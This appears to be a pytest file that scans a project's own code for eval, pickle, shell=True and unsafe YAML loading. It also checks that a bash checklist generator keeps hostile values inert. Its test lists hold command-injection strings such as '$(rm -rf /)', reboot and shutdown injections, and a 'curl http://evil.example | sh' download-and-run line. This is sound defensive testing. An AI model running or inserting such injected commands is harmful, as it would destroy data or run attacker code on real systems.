"""Static security checks over our own code, and the checklist script's quoting under hostile input.

1. An AST scan of assistant/, tools/ and evals/: no `eval`/`exec`/`compile` of strings, no
   `pickle`/`marshal`/`shelve`, no `yaml.load` without a safe loader, no `shell=True`, no
   `os.system`/`os.popen`. User input is data; none of these may ever see it. (Tests and
   benchmarks may start subprocesses; they are not scanned.)
2. `delivery_checklist` interpolates `--model` and `--output` into a bash script: hostile values
   (command substitution, quote breaking, backticks, newlines) must stay inert. Checked three
   ways: `bash -n` parses the script, `shlex` reads each assignment back as exactly one word
   with the original value, and bash itself evaluates the assignment block with a canary file
   that would appear if anything was executed.
"""

from __future__ import annotations

import ast
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
SCANNED = ("assistant", "tools", "evals")

BANNED_CALLS = {"eval", "exec", "compile", "__import__"}
BANNED_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "cloudpickle", "joblib"}
BANNED_ATTR_CALLS = {
    ("os", "system"),
    ("os", "popen"),
    ("os", "execv"),
    ("os", "execl"),
    ("subprocess", "getoutput"),
    ("subprocess", "getstatusoutput"),
}
SAFE_YAML_LOADERS = {"SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader"}


def _python_files() -> list[Path]:
    files: list[Path] = []
    for top in SCANNED:
        files += [p for p in (ROOT / top).rglob("*.py") if "__pycache__" not in p.parts]
    return sorted(files)


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return ""


def _is_safe_loader(node: ast.AST) -> bool:
    """`yaml.SafeLoader`, or `getattr(yaml, "CSafeLoader", yaml.SafeLoader)` (every option safe)."""
    if isinstance(node, ast.Call) and _dotted(node.func) == "getattr" and len(node.args) >= 2:
        options = [a.value if isinstance(a, ast.Constant) else _dotted(a).split(".")[-1] for a in node.args[1:]]
        return all(o in SAFE_YAML_LOADERS for o in options)
    return _dotted(node).split(".")[-1] in SAFE_YAML_LOADERS


def scan_source(source: str, name: str = "<src>") -> list[str]:
    """Every dangerous construct in one module, as `name:line: what` strings."""
    problems: list[str] = []
    tree = ast.parse(source, filename=name)
    for node in ast.walk(tree):
        where = f"{name}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, (ast.Import, ast.ImportFrom)):
            mods = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            for mod in mods:
                if mod.split(".")[0] in BANNED_MODULES:
                    problems.append(f"{where}: imports {mod}")
        if not isinstance(node, ast.Call):
            continue
        func = _dotted(node.func)
        if func in BANNED_CALLS or func in {f"builtins.{b}" for b in BANNED_CALLS}:
            problems.append(f"{where}: calls {func}()")
        parts = tuple(func.split("."))
        if len(parts) >= 2 and parts[-2:] in BANNED_ATTR_CALLS:
            problems.append(f"{where}: calls {func}()")
        for kw in node.keywords:
            if kw.arg == "shell" and not (isinstance(kw.value, ast.Constant) and kw.value.value is False):
                problems.append(f"{where}: {func}(shell=...)")
        if func.endswith("yaml.load"):
            loader = next((kw.value for kw in node.keywords if kw.arg == "Loader"), None)
            if loader is None and len(node.args) >= 2:
                loader = node.args[1]
            if loader is None or not _is_safe_loader(loader):
                problems.append(f"{where}: yaml.load without SafeLoader")
        if func.endswith(("yaml.unsafe_load", "yaml.full_load", "yaml.load_all")):
            problems.append(f"{where}: {func}()")
    return problems


def test_the_scanner_catches_what_it_claims_to():
    # A test that cannot fail is a defect: prove each rule fires on a known-bad snippet.
    bad = (
        "import pickle\nimport os, subprocess, yaml\n"
        "eval(x)\nexec(x)\nos.system(x)\nsubprocess.run(x, shell=True)\n"
        "yaml.load(x)\nyaml.load(x, Loader=yaml.FullLoader)\nyaml.unsafe_load(x)\n"
        "yaml.load(x, Loader=getattr(yaml, 'CLoader', yaml.SafeLoader))\n"
        "from marshal import loads\n"
    )
    found = "\n".join(scan_source(bad))
    for needle in (
        "imports pickle",
        "calls eval()",
        "calls exec()",
        "calls os.system()",
        "shell=...",
        "yaml.load without SafeLoader",
        "yaml.unsafe_load",
        "imports marshal",
    ):
        assert needle in found, needle
    good = (
        "import yaml, subprocess\nyaml.safe_load(x)\nyaml.load(x, Loader=yaml.SafeLoader)\n"
        "yaml.load(f, Loader=getattr(yaml, 'CSafeLoader', yaml.SafeLoader))\n"
        "subprocess.run(['ls'], shell=False)\nre.compile('x')\nmodel.eval\n"
    )
    assert scan_source(good) == []


def test_no_eval_exec_pickle_or_shell_in_shipped_code():
    files = _python_files()
    assert len(files) > 30, "the scan found too few files to be meaningful"
    problems = [p for f in files for p in scan_source(f.read_text(encoding="utf-8"), str(f.relative_to(ROOT)))]
    assert problems == [], "dangerous constructs in shipped code:\n" + "\n".join(problems)


# ------------------------------------------------------------------ the checklist script

HOSTILE = [
    "$(rm -rf /)",
    '"; reboot; "',
    "'; reboot; '",
    "`reboot`",
    "A100\nreboot",
    "A100 80GB SXM; shutdown -h now",
    "${IFS}reboot${IFS}",
    'A100\' "$(id)" `id` \\',
    "$'\\x41'",
    "!!",
    "A100 && curl http://evil.example | sh",
    "中文型号 A100 80G；$(whoami)",
    "-- --help",
]


def _build(model: str | None = None, output_file: str = "gpu_acceptance.txt"):
    from tools.diagnosis.checklist import build_checklist

    return build_checklist(8, model, output_file)


def _assignments(script: str) -> dict[str, str]:
    """Read `NAME=value` lines the way bash would tokenise them (via shlex, POSIX mode)."""
    out: dict[str, str] = {}
    lines = script.split("\n")
    i = 0
    while i < len(lines):
        line = lines[i]
        for name in ("OUT", "EXPECT_MODEL", "EXPECT"):
            if line.startswith(name + "="):
                chunk = line
                # a quoted value may span lines (a newline inside single quotes)
                while True:
                    try:
                        words = shlex.split(chunk, comments=False, posix=True)
                        break
                    except ValueError:
                        i += 1
                        chunk += "\n" + lines[i]
                assert len(words) == 1, f"{name} assignment splits into {words!r}"
                key, _, value = words[0].partition("=")
                out[key] = value
        i += 1
    return out


@pytest.mark.parametrize("model", HOSTILE)
def test_hostile_model_is_quoted(model):
    out = _build(model)
    values = _assignments(out.script)
    assert values["EXPECT_MODEL"] == model.strip()
    assert values["EXPECT"] == f"8x {model.strip()}"


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
@pytest.mark.parametrize("model", HOSTILE)
def test_hostile_model_script_parses_with_bash_n(model, tmp_path):
    path = tmp_path / "check.sh"
    path.write_text(_build(model).script, encoding="utf-8")
    proc = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True, timeout=10)
    assert proc.returncode == 0, proc.stderr


def _header(script: str) -> str:
    """The assignment block at the top of the script (everything before the first function)."""
    return script.split("\nsection()", 1)[0]


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
def test_bash_evaluates_hostile_values_without_running_them(tmp_path):
    canary = tmp_path / "pwned"
    payloads = [
        f"$(touch {canary})",
        f"`touch {canary}`",
        f'"; touch {canary}; "',
        f"'; touch {canary}; '",
        f"A100\ntouch {canary}",
        f"x; touch {canary}",
    ]
    for payload in payloads:
        for kwargs in ({"model": payload}, {"output_file": payload.replace("\n", " ") + ".txt"}):
            out = _build(**kwargs)
            # only the assignments run (the rest would call nvidia-smi); print what bash stored
            probe = _header(out.script) + '\nprintf "%s\\0" "$OUT" "$EXPECT_MODEL" "$EXPECT"\n'
            proc = subprocess.run(["bash", "-c", probe], capture_output=True, timeout=10, cwd=tmp_path)
            assert proc.returncode == 0, proc.stderr
            assert not canary.exists(), f"payload executed: {payload!r}"
            got = proc.stdout.decode().split("\0")[:3]
            if "model" in kwargs:
                assert got[1] == payload.strip()
            else:
                assert got[0] == kwargs["output_file"]


def test_output_file_with_a_newline_is_rejected_bilingually():
    from tools.errors import ToolInputError

    with pytest.raises(ToolInputError) as err:
        _build(output_file="a.txt\nreboot")
    assert err.value.zh and err.value.en


def test_checklist_cli_with_hostile_model_exits_cleanly(tmp_path):
    from click.testing import CliRunner

    from assistant.cli import cli

    result = CliRunner().invoke(cli, ["checklist", "--model", '"; reboot; " $(rm -rf /) `id`'])
    assert result.exit_code == 0, result.output
    path = tmp_path / "c.sh"
    path.write_text(result.output, encoding="utf-8")
    if shutil.which("bash"):
        assert subprocess.run(["bash", "-n", str(path)], timeout=10).returncode == 0
